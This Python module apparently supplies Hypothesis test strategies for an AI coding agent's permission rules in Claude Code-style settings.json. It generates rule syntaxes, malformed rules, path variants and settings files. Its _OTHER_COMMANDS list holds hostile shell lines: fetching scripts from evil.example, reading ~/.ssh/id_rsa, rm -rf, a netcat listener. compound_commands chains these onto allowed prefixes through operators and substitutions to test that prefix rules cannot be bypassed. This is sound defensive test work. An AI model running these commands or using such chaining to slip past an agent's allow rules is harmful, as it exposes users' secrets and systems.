"""Permission rules in every syntax real settings files use, modes, sources, commands, paths, settings.json.

Rule texts follow what people write in ``.claude/settings.json``: the old ``Bash(cmd:*)`` prefix
form beside the newer ``Bash(cmd *)``, globs glued to the command (``Bash(git diff*)``), escaped
parentheses, ``Read(//abs/**)`` absolute paths, ``~/`` home paths, ``WebFetch(domain:...)`` and
the three MCP forms.
"""

from __future__ import annotations

import posixpath
from collections.abc import Sequence
from typing import Any, Literal, NamedTuple, TypeAlias, get_args

from hypothesis import strategies as st
from hypothesis.errors import InvalidArgument

from pytest_toolharness._strategies.hooks import hook_settings
from pytest_toolharness._strategies.schemas import WORDS, cached_strategy
from pytest_toolharness._strategies.tools import mcp_server_names, tool_names
from pytest_toolharness.specs import (
    CONTENTLESS_TOOLS,
    MCP_PREFIX,
    PERMISSION_MODES,
    SETTING_SOURCES,
    RuleSpec,
    mcp_tool_name,
    normalize_name_for_mcp,
    parse_mcp_name,
)

__all__ = [
    "COMPOUND_OPERATORS",
    "MALFORMED_RULE_KINDS",
    "PERMISSION_MODES",
    "RULE_KINDS",
    "DeadShellRule",
    "MalformedRuleKind",
    "RuleKind",
    "compound_commands",
    "dead_shell_rules",
    "malformed_rules",
    "path_variants",
    "permission_modes",
    "permission_rules",
    "rule_texts",
    "settings_json",
    "settings_sources",
    "shell_commands",
]

RuleKind: TypeAlias = Literal[
    "tool",
    "tool_content",
    "bash_prefix_colon",
    "bash_prefix_space",
    "bash_prefix_glued",
    "bash_exact",
    "bash_any",
    "bash_escaped_parens",
    "read_relative",
    "read_absolute",
    "read_home",
    "read_glob",
    "edit_glob",
    "web_fetch_domain",
    "mcp_server",
    "mcp_server_wildcard",
    "mcp_tool",
]
RULE_KINDS: tuple[RuleKind, ...] = get_args(RuleKind)
"""Every rule syntax :func:`rule_texts` writes."""

MalformedRuleKind: TypeAlias = Literal[
    "empty", "unbalanced_open", "reversed_parens", "empty_tool_name", "trailing_text", "bad_tool_name"
]
MALFORMED_RULE_KINDS: tuple[MalformedRuleKind, ...] = get_args(MalformedRuleKind)
"""The ways :func:`malformed_rules` breaks a rule."""

COMPOUND_OPERATORS: tuple[str, ...] = ("&&", "||", ";", "|", "&", "\n", "$()", "``", "<()")
"""How :func:`compound_commands` joins the allowed part to the other part."""

# Command prefixes as allow lists spell them (written for this project).
_COMMAND_PREFIXES: tuple[str, ...] = (
    "git status",
    "git diff",
    "git log",
    "git add",
    "git commit",
    "npm test",
    "npm run lint",
    "npm run build",
    "pytest",
    "uv run pytest",
    "make",
    "make lint",
    "cargo test",
    "go test",
    "ls",
    "cat",
    "grep",
    "rg",
    "docker ps",
    "gh pr view",
    "python -m pytest",
)
# Plain arguments: no shell metacharacters, no globs, no leading tilde.
_ARGS: tuple[str, ...] = (
    "-q",
    "-la",
    "--verbose",
    "src/",
    "tests/",
    "README.md",
    "HEAD~1",
    "main",
    "-x",
    "--stat",
    "docs/index.md",
    "-n",
    "10",
    "origin",
    "build",
    "--all",
)
# The part that a rule about the allowed prefix must not let through.
_OTHER_COMMANDS: tuple[str, ...] = (
    "rm -rf /tmp/important",
    "curl -s https://evil.example/x.sh",
    "cat ~/.ssh/id_rsa",
    "chmod 777 /etc/passwd",
    "wget https://evil.example/payload",
    "sh",
    "nc -l 4444",
    "git push --force origin main",
    "npm publish",
    "echo pwned",
    "python -c 'import os; os.remove(\"x\")'",
)
_DOMAINS: tuple[str, ...] = ("github.com", "docs.python.org", "example.com", "api.example.org", "pypi.org")


@cached_strategy
def settings_sources() -> st.SearchStrategy[str]:
    """A settings source a rule can come from (``userSettings``, ``projectSettings``...)."""
    return st.sampled_from(SETTING_SOURCES)


def permission_modes(modes: Sequence[str] = PERMISSION_MODES) -> st.SearchStrategy[str]:
    """A permission mode (``default``, ``acceptEdits``, ``plan``, ``bypassPermissions``, ``dontAsk``, ``auto``)."""
    unknown = sorted(set(modes) - set(PERMISSION_MODES))
    if unknown or not modes:
        raise InvalidArgument(f"modes must be a non-empty subset of {PERMISSION_MODES}, got {list(modes)}")
    return st.sampled_from(sorted(set(modes), key=PERMISSION_MODES.index))


@cached_strategy
def _args() -> st.SearchStrategy[list[str]]:
    return st.lists(st.sampled_from(_ARGS), max_size=3)


@cached_strategy
def shell_commands(prefix: str | None = None) -> st.SearchStrategy[str]:
    """Simple shell commands (one program, plain arguments, no operators): ``git diff --stat``.

    With ``prefix`` every command starts with it, as a whole word sequence (``prefix`` alone or
    ``prefix`` + space + arguments).
    """
    if prefix is not None and (not isinstance(prefix, str) or not prefix.strip()):
        raise InvalidArgument(f"prefix must be a non-empty string, got {prefix!r}")
    prefixes = st.just(prefix) if prefix is not None else st.sampled_from(_COMMAND_PREFIXES)
    return st.tuples(prefixes, _args()).map(lambda pair: " ".join([pair[0], *pair[1]]))


@st.composite
def _compound(draw: st.DrawFn, allowed_prefix: str, operators: Sequence[str]) -> str:
    allowed = draw(shell_commands(allowed_prefix))
    first_word = allowed_prefix.split()[0]
    other = draw(st.sampled_from([c for c in _OTHER_COMMANDS if c.split()[0] != first_word]))
    op = draw(st.sampled_from(list(operators)))
    if op == "$()":
        return draw(st.sampled_from([f"{allowed} $({other})", f'{allowed} "$({other})"']))
    if op == "``":
        return f"{allowed} `{other}`"
    if op == "<()":
        return f"{allowed} <({other})"
    if op == "\n":
        left, right = draw(st.permutations([allowed, other]))
        return f"{left}\n{right}"
    left, right = draw(st.permutations([allowed, other]))
    # Real commands are written both ways: "a; b" and "a;b".
    spacing = draw(st.sampled_from([" ", ""])) if op in (";", "|") else " "
    return f"{left}{spacing}{op}{spacing}{right}"


def compound_commands(
    allowed_prefix: str, *, operators: Sequence[str] = COMPOUND_OPERATORS
) -> st.SearchStrategy[str]:
    """Bypass attempts for a prefix rule (PERM-11): a command matching ``allowed_prefix`` joined to one that doesn't.

    The joint is one of ``operators``: ``&&``, ``||``, ``;``, ``|``, ``&``, a newline (either part
    first), or the other command inside ``$(...)``, backticks or ``<(...)`` after the allowed part.
    A rule ``Bash(<allowed_prefix>:*)`` must not allow any of these.
    """
    if not isinstance(allowed_prefix, str) or not allowed_prefix.strip():
        raise InvalidArgument(f"allowed_prefix must be a non-empty string, got {allowed_prefix!r}")
    if any(ch in allowed_prefix for ch in "\n;&|`$()<>"):
        raise InvalidArgument(f"allowed_prefix must be a simple command, got {allowed_prefix!r}")
    unknown = sorted(set(operators) - set(COMPOUND_OPERATORS))
    if unknown or not operators:
        raise InvalidArgument(
            f"operators must be a non-empty subset of {COMPOUND_OPERATORS}, got {list(operators)}"
        )
    return _compound(allowed_prefix.strip(), sorted(set(operators), key=COMPOUND_OPERATORS.index))


@st.composite
def _variants(draw: st.DrawFn, path: str) -> str:
    norm = posixpath.normpath(path)
    if norm.startswith("//") and not norm.startswith("///"):
        lead = "//"  # POSIX keeps exactly two leading slashes, and so does normpath
    elif norm.startswith("/"):
        lead = "/"
    else:
        lead = ""
    parts = [p for p in norm.split("/") if p and p != "."]
    fixed: list[str] = []
    if parts and parts[0] == "~":
        fixed, parts = ["~"], parts[1:]  # "~" only means home as the first component
    pieces: list[str] = list(fixed)
    for i in range(len(parts) + 1):
        junk = draw(
            st.lists(st.one_of(st.just("."), st.sampled_from(WORDS).map(lambda w: f"{w}/..")), max_size=2)
        )
        pieces.extend(junk)
        if i < len(parts):
            pieces.append(parts[i])
    if not lead and not fixed and draw(st.booleans()):
        pieces.insert(0, ".")
    if not pieces:
        return lead or "."
    text = pieces[0]
    for piece in pieces[1:]:
        text += draw(st.sampled_from(["/", "//"])) + piece
    return lead + text


def path_variants(path: str) -> st.SearchStrategy[str]:
    """Other spellings of ``path`` that normalise to the same path: ``./a/../x``, ``.//x``, ``./x/.``.

    ``posixpath.normpath`` of every variant equals ``posixpath.normpath(path)``; a leading ``~``
    stays first. A path rule must treat every variant like the path itself (PERM-11).
    """
    if not isinstance(path, str) or not path or "\x00" in path:
        raise InvalidArgument(f"path must be a non-empty string without NUL, got {path!r}")
    return _variants(path)


def _mcp_parts(tool_names: Sequence[str] | None) -> tuple[st.SearchStrategy[str], st.SearchStrategy[str]]:
    """Strategies for (normalised server, full MCP tool name) drawn from ``tool_names`` or made up."""
    if tool_names is not None:
        parsed = sorted({(p.server, name) for name in tool_names if (p := parse_mcp_name(name)) and p.tool})
        if parsed:
            return st.sampled_from(sorted({s for s, _ in parsed})), st.sampled_from([n for _, n in parsed])
    servers = mcp_server_names().map(normalize_name_for_mcp)
    tools = st.tuples(servers, st.sampled_from(WORDS)).map(lambda p: mcp_tool_name(p[0], f"get_{p[1]}"))
    return servers, tools


@cached_strategy
def _relative_paths() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from([".env", ".env.*", "secrets/**", "src/**", "docs/*.md", "package.json"]),
        st.lists(st.sampled_from(WORDS), min_size=1, max_size=3).map("/".join),
    )


def rule_texts(
    *, kinds: Sequence[RuleKind] = RULE_KINDS, tool_names: Sequence[str] | None = None
) -> st.SearchStrategy[str]:
    """Valid permission rule texts of the given ``kinds`` (see :data:`RULE_KINDS`).

    With ``tool_names`` (a pool's names), whole-tool rules name one of them and MCP rules use the
    servers and tools among them; otherwise names are made up.
    """
    unknown = sorted(set(kinds) - set(RULE_KINDS))
    if unknown or not kinds:
        raise InvalidArgument(f"kinds must be a non-empty subset of {RULE_KINDS}, got {list(kinds)}")
    names = st.sampled_from(sorted(set(tool_names))) if tool_names else _builtin_names()
    servers, mcp_tools = _mcp_parts(tool_names)
    prefixes = st.sampled_from(_COMMAND_PREFIXES)
    by_kind: dict[str, st.SearchStrategy[str]] = {
        "tool": names,
        "tool_content": st.tuples(
            _plain_tool_names(), st.lists(st.sampled_from(WORDS), min_size=1, max_size=3)
        ).map(lambda p: f"{p[0]}({' '.join(p[1])})"),
        "bash_prefix_colon": prefixes.map(lambda c: f"Bash({c}:*)"),
        "bash_prefix_space": prefixes.map(lambda c: f"Bash({c} *)"),
        "bash_prefix_glued": prefixes.map(lambda c: f"Bash({c}*)"),
        "bash_exact": shell_commands().map(lambda c: f"Bash({c})"),
        "bash_any": st.just("Bash(*)"),
        "bash_escaped_parens": st.sampled_from(WORDS).map(lambda w: f'Bash(python -c "print\\({w!r}\\)")'),
        "read_relative": _relative_paths().map(lambda p: f"Read(./{p})"),
        "read_absolute": _relative_paths().map(lambda p: f"Read(//home/dev/{p})"),
        "read_home": _relative_paths().map(lambda p: f"Read(~/{p})"),
        "read_glob": st.sampled_from(["**/.env*", "**/*.pem", "**/secrets/**"]).map(lambda p: f"Read({p})"),
        "edit_glob": _relative_paths().map(lambda p: f"Edit({p})"),
        "web_fetch_domain": st.sampled_from(_DOMAINS).map(lambda d: f"WebFetch(domain:{d})"),
        "mcp_server": servers.map(lambda s: f"{MCP_PREFIX}{s}"),
        "mcp_server_wildcard": servers.map(lambda s: f"{MCP_PREFIX}{s}__*"),
        "mcp_tool": mcp_tools,
    }
    return st.one_of([by_kind[k] for k in sorted(set(kinds), key=RULE_KINDS.index)])


@cached_strategy
def _builtin_names() -> st.SearchStrategy[str]:
    return tool_names()


# Tools whose rule content has its own syntax (commands, paths, domains); see the bash_/read_/... kinds.
_CONTENT_SYNTAX_TOOLS = frozenset(
    {"Bash", "Read", "Edit", "Write", "NotebookEdit", "WebFetch", "Glob", "Grep"}
)


@cached_strategy
def _plain_tool_names() -> st.SearchStrategy[str]:
    # A built-in with no content (``WebSearch(x)``) takes no content rule: PERM-12 refuses one.
    return tool_names().filter(lambda n: n not in _CONTENT_SYNTAX_TOOLS and n not in CONTENTLESS_TOOLS)


def permission_rules(
    *,
    behaviors: Sequence[Literal["allow", "ask", "deny"]] = ("allow", "ask", "deny"),
    sources: Sequence[str] = SETTING_SOURCES,
    kinds: Sequence[RuleKind] = RULE_KINDS,
    tool_names: Sequence[str] | None = None,
) -> st.SearchStrategy[RuleSpec]:
    """:class:`RuleSpec` objects: a rule text from :func:`rule_texts`, a list (allow/ask/deny) and a source."""
    bad = sorted({str(b) for b in behaviors} - {"allow", "ask", "deny"}) or sorted(
        set(sources) - set(SETTING_SOURCES)
    )
    if bad or not behaviors or not sources:
        raise InvalidArgument(f"unknown or empty behaviors/sources: {bad or 'empty'}")
    return st.builds(
        RuleSpec,
        text=rule_texts(kinds=kinds, tool_names=tool_names),
        behavior=st.sampled_from([b for b in ("allow", "ask", "deny") if b in behaviors]),
        source=st.sampled_from(sorted(set(sources), key=SETTING_SOURCES.index)),
    )


def malformed_rules(*, kinds: Sequence[MalformedRuleKind] = MALFORMED_RULE_KINDS) -> st.SearchStrategy[str]:
    """Rule texts that are broken and must be refused with a clear error (PERM-12).

    ``empty`` (empty or only whitespace), ``unbalanced_open`` (``Bash(npm test``),
    ``reversed_parens`` (``Bash)npm test(``), ``empty_tool_name`` (``(npm test)``),
    ``trailing_text`` (``Bash(ls) now``), ``bad_tool_name`` (``Ba sh(ls)``, ``Bash!(ls)``).
    """
    unknown = sorted(set(kinds) - set(MALFORMED_RULE_KINDS))
    if unknown or not kinds:
        raise InvalidArgument(
            f"kinds must be a non-empty subset of {MALFORMED_RULE_KINDS}, got {list(kinds)}"
        )
    tool = st.sampled_from(["Bash", "Read", "Edit", "WebFetch"])
    content = shell_commands()
    pairs = st.tuples(tool, content)
    by_kind: dict[str, st.SearchStrategy[str]] = {
        "empty": st.sampled_from(["", " ", "\t", "  \n"]),
        "unbalanced_open": pairs.map(lambda p: f"{p[0]}({p[1]}"),
        "reversed_parens": pairs.map(lambda p: f"{p[0]}){p[1]}("),
        "empty_tool_name": content.map(lambda c: f"({c})"),
        "trailing_text": st.tuples(tool, content, st.sampled_from(WORDS)).map(
            lambda p: f"{p[0]}({p[1]}) {p[2]}"
        ),
        "bad_tool_name": st.tuples(tool, content, st.sampled_from([" ", "!", "/", "*"])).map(
            lambda p: f"{p[0][:2]}{p[2]}{p[0][2:]}({p[1]})"
        ),
    }
    return st.one_of([by_kind[k] for k in sorted(set(kinds), key=MALFORMED_RULE_KINDS.index)])


# Pieces of shell syntax that make a line around a simple command a syntax error, whatever the
# command: an operator or redirection with nothing after it, a quote or substitution left open, a
# word only bash's grammar may start a line with. ``git push &&`` is no command bash runs.
_STRAY_AFTER: tuple[str, ...] = (
    "&&",
    "||",
    "|",
    "|&",
    ";;",
    "&&&",
    ">",
    ">>",
    "<",
    "2>",
    "<<<",
    "(",
    "'",
    '"',
    "`",
    "$(",
)
_RESERVED_BEFORE: tuple[str, ...] = ("}", "fi", "done", "then", "esac")
_UNREPAIRABLE_BEFORE: tuple[str, ...] = ("&&", "||", "|", ";", ";;", ")", *_RESERVED_BEFORE)
_STRAY_BEFORE: tuple[str, ...] = (*_UNREPAIRABLE_BEFORE, "'", '"')


class DeadShellRule(NamedTuple):
    """A ``Bash(...)`` rule whose content bash can't run (``Bash(git push &&:*)``) and the command meant."""

    text: str
    content: str
    meant: str


def _rule_content(content: str) -> str:
    return content.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")


@st.composite
def _dead_shell_rule(draw: st.DrawFn) -> DeadShellRule:
    command = draw(shell_commands())
    form = draw(st.sampled_from(["exact", "prefix", "wildcard"]))
    # What a ``*`` may fill in after the command could close a quote or feed an operator
    # (``Bash(rm -rf |:*)`` matches ``rm -rf | x``): a rule with a star gets a stray piece before
    # the command that no continuation repairs (``; rm -rf:*``).
    after = form == "exact" and draw(st.booleans())
    strays = _STRAY_AFTER if after else _STRAY_BEFORE if form == "exact" else _UNREPAIRABLE_BEFORE
    stray = draw(st.sampled_from(strays))
    # A reserved word (and ``}``) is one only as a word of its own: glued, ``}make`` is a command name.
    gap = " " if stray in _RESERVED_BEFORE else draw(st.sampled_from(["", " ", "  "]))
    content = f"{command}{gap}{stray}" if after else f"{stray}{gap}{command}"
    suffix = {"exact": "", "prefix": ":*", "wildcard": " *"}[form]
    meant = command if form == "exact" else f"{command} {draw(st.sampled_from(WORDS))}"
    return DeadShellRule(f"Bash({_rule_content(content)}{suffix})", content, meant)


@cached_strategy
def dead_shell_rules() -> st.SearchStrategy[DeadShellRule]:
    """``Bash`` rules that could never match as written, each with the command its author meant (PERM-12).

    A simple command from :func:`shell_commands` with a stray piece of shell syntax before or after
    it, glued or spaced (an operator with nothing on one side, a redirection with no target, a quote
    or substitution left open, a reserved word out of place), in the exact, ``:*`` and `` *`` forms:
    ``Bash(git push &&)`` and ``Bash(; rm -rf:*)``, meant ``git push`` and ``rm -rf`` + a word. No
    line bash runs is spelled so, whatever a ``*`` stands for, so the rule matches nothing as
    written: a harness refuses it by name, or reads it as the command meant.
    """
    return _dead_shell_rule()


@st.composite
def _settings(
    draw: st.DrawFn,
    rules: st.SearchStrategy[list[str]],
    hooks: st.SearchStrategy[dict[str, Any]] | None,
) -> dict[str, Any]:
    permissions: dict[str, Any] = {}
    for key in ("allow", "deny", "ask"):
        if draw(st.booleans()):
            permissions[key] = draw(rules)
    if draw(st.booleans()):
        permissions["defaultMode"] = draw(permission_modes())
    if draw(st.integers(0, 3)) == 0:
        permissions["additionalDirectories"] = draw(
            st.lists(
                st.sampled_from(WORDS).map(lambda w: f"/home/dev/{w}"), min_size=1, max_size=2, unique=True
            )
        )
    settings: dict[str, Any] = {}
    keep_empty: bool = draw(st.booleans())
    if permissions or keep_empty:
        settings["permissions"] = permissions
    if hooks is not None and draw(st.booleans()):
        settings["hooks"] = draw(hooks)
    return settings


def settings_json(
    *, tool_names: Sequence[str] | None = None, with_hooks: bool = True
) -> st.SearchStrategy[dict[str, Any]]:
    """Valid ``settings.json`` contents, in Claude Code's shape.

    ``permissions`` holds allow/deny/ask rule lists (any of :data:`RULE_KINDS`), sometimes
    ``defaultMode`` and ``additionalDirectories``; ``hooks`` holds command hooks (see
    :func:`hook_settings`). Every part is optional, as in real files.
    """
    # Sub-strategies are built once here, not on every draw.
    rules = st.lists(rule_texts(tool_names=tool_names), max_size=5, unique=True)
    return _settings(rules, hook_settings(tool_names=tool_names) if with_hooks else None)
